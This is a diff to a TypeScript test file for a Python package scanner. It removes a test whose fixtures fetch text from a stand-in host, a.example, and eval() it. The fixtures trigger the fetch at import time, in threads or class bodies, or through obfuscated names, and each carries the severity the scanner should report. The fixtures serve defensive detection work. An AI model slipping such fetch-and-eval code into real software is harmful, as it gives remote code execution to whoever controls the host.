@@ -3,7 +3,7 @@
  *
  * @module
  */
-import { assert, assertEquals } from "@std/assert";
+import { assertEquals } from "@std/assert";
 import { gzipSync } from "node:zlib";
 import { readPackage } from "../../workers/analysis/packages/reading.ts";
 import { packWheel } from "../../workers/analysis/packages/pack.ts";
@@ -306,81 +306,6 @@ for (const [what, files] of Object.entries(HONEST)) {
     assertEquals(await read(files), []);
   });
 }
-
-Deno.test("data that is cut out of an answer and evaluated is malice where the package runs it itself", async () => {
-  const get =
-    "import requests\n\ndef get(code):\n    text = requests.get(f'https://a.example/{code}').text\n";
-  const part = "    return eval(text[text.find('=') + 1 : text.find(';')])\n";
-  const cases: [what: string, files: Files, severity: string][] = [
-    ["only a user calls it", { "kit/a.py": get + part }, "medium"],
-    ["its callers are called by users", {
-      "kit/a.py": get + part,
-      "kit/__init__.py": "from .a import get\n\ndef table(code):\n    return get(code)\n",
-    }, "medium"],
-    ["all of the answer", { "kit/a.py": get + "    return eval(text)\n" }, "critical"],
-    ["from a mark on, by a name", {
-      "kit/a.py": get + "    part = text[text.find('['):]\n    return eval(part)[0]\n",
-    }, "medium"],
-    ["a piece", { "kit/a.py": get + "    return eval(text.split('=')[1])\n" }, "medium"],
-    ["where it is run as a script", {
-      "kit/a.py": get + part + "\nif __name__ == '__main__':\n    print(get(1))\n",
-    }, "medium"],
-    ["an open end", { "kit/a.py": get + "    return eval(text[1:])\n" }, "critical"],
-    ["by another name", {
-      "kit/a.py": get +
-        "    part = text[text.find('['):]\n    part = text\n    return eval(part)\n",
-    }, "critical"],
-    ["for what it does", {
-      "kit/a.py": get + "    eval(text[text.find('=') + 1:])\n    return text\n",
-    }, "critical"],
-    ["where it is run as no script", {
-      "kit/a.py": get + part + "\nif __name__ == '__main__':\n    pass\nelse:\n    get(1)\n",
-    }, "critical"],
-    ["by its name as a text", {
-      "kit/a.py": get + part + "\nglobals()['g' + 'et'](1)\n",
-    }, "critical"],
-    ["by its name in another module", {
-      "kit/a.py": get + part,
-      "kit/b.py": "from . import a\n\ngetattr(a, 'teg'[::-1])(1)\n",
-    }, "critical"],
-    ["where the name is not that of a script", {
-      "kit/a.py": get + part + "\nif __name__ == 'kit.a':\n    print(get(1))\n",
-    }, "critical"],
-    ["with names", {
-      "kit/a.py": get + part.replace(")])", ")], globals())"),
-    }, "critical"],
-    [
-      "at import",
-      { "kit/a.py": get + part, "kit/b.py": "from .a import get\nget(1)\n" },
-      "critical",
-    ],
-    ["by a caller at import", {
-      "kit/a.py": get + part,
-      "kit/b.py": "from . import a\n\ndef go():\n    a.get(1)\n\ngo()\n",
-    }, "critical"],
-    ["in a class", {
-      "kit/a.py": get + part,
-      "kit/b.py": "from .a import get\n\nclass K:\n    x = get(1)\n",
-    }, "critical"],
-    ["in a thread", {
-      "kit/a.py": get + part,
-      "kit/b.py": "import threading\nfrom .a import get\n\ndef go():\n" +
-        "    threading.Thread(target=get).start()\n",
-    }, "critical"],
-    ["by a decorator", { "kit/a.py": get.replace("def", "@run\ndef") + part }, "critical"],
-    ["by Python", {
-      "kit/a.py": get + part,
-      "kit/b.py": "from .a import get\n\ndef __getattr__(name):\n    return get(name)\n",
-    }, "critical"],
-  ];
-  for (const [what, files, severity] of cases) {
-    const wheel = wheelOf({ name: "helper-kit", version: "1.0", files });
-    const packed = packWheel(wheel, { name: "helper-kit", version: "1.0", symbols: "" });
-    assert(packed.kind !== "refused");
-    const { findings } = await readPackage(Uint8Array.fromBase64(packed.content), "helper-kit");
-    assertEquals([what, ...findings.map((each) => each.severity)], [what, severity]);
-  }
-});
 
 Deno.test("a package that is made large is read where it acts, and says what was left", async () => {
   const idle = "class Model:\n    name = 1\n\n".repeat(20_000);
